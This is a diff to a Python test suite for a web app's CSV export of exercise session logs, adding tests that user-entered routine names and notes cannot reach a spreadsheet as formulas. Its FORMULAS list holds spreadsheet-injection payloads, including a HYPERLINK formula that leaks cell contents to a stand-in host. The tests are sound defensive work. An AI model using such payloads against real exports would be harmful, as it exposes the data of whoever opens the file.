@@ -171,7 +171,7 @@ def test_json_export_never_contains_the_password_hash_or_calendar_token(logged_i
 
 
 def read_csv(response) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(response.content.decode())))
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
 def test_csv_export_has_one_row_per_session(logged_in, user, mine, theirs):
@@ -210,6 +210,70 @@ def test_csv_export_neutralises_notes_that_look_like_formulas(logged_in, user, n
     (row,) = read_csv(logged_in.get(CSV_EXPORT))
     assert row["notes"] == "'" + note
     assert row["notes"][0] not in "=+-@\t\r"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "  =1+1",
+    " \n@cmd",
+    "\u3000=1",
+]
+
+
+def runs_as_formula(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_export_neutralises_every_cell_a_user_wrote(logged_in, user, make_routine, text):
+    """Routine names, quick-session names and notes are the user's words: none of them
+    reaches a spreadsheet as a formula, and each reads as written after the apostrophe."""
+    routine = make_routine(user, name=text[:80])
+    day = user.profile.today()
+    session = SessionLog.for_routine_on(user, routine, day)
+    session.notes = text
+    session.save()
+    SessionLog.objects.create(
+        owner=user, routine_name=text[:80], date=day - timedelta(days=1), notes=text
+    )
+    rows = read_csv(logged_in.get(CSV_EXPORT))
+    assert len(rows) == 2
+    for row in rows:
+        assert row["routine"] == "'" + text[:80]
+        assert row["notes"] == "'" + text
+        for column, cell in row.items():
+            assert not runs_as_formula(cell), (column, cell)
+
+
+def test_csv_export_starts_with_a_byte_order_mark_and_keeps_accents_and_emoji(
+    logged_in, user, make_routine
+):
+    routine = make_routine(user, name="Étirements du matin 🌅")
+    session = SessionLog.for_routine_on(user, routine, user.profile.today())
+    session.notes = "Très bien, ça va mieux 💪 — ½ la douleur"
+    session.save()
+    response = logged_in.get(CSV_EXPORT)
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    assert response.content.count(b"\xef\xbb\xbf") == 1
+    (row,) = read_csv(response)
+    assert row["routine"] == "Étirements du matin 🌅"
+    assert row["notes"] == "Très bien, ça va mieux 💪 — ½ la douleur"
+    assert list(row) == [
+        "date",
+        "routine",
+        "finished_at",
+        "pain_before",
+        "pain_after",
+        "effort",
+        "done",
+        "stopped_because_it_hurt",
+        "notes",
+    ]
 
 
 def test_csv_export_keeps_ordinary_notes_as_they_are(logged_in, user):
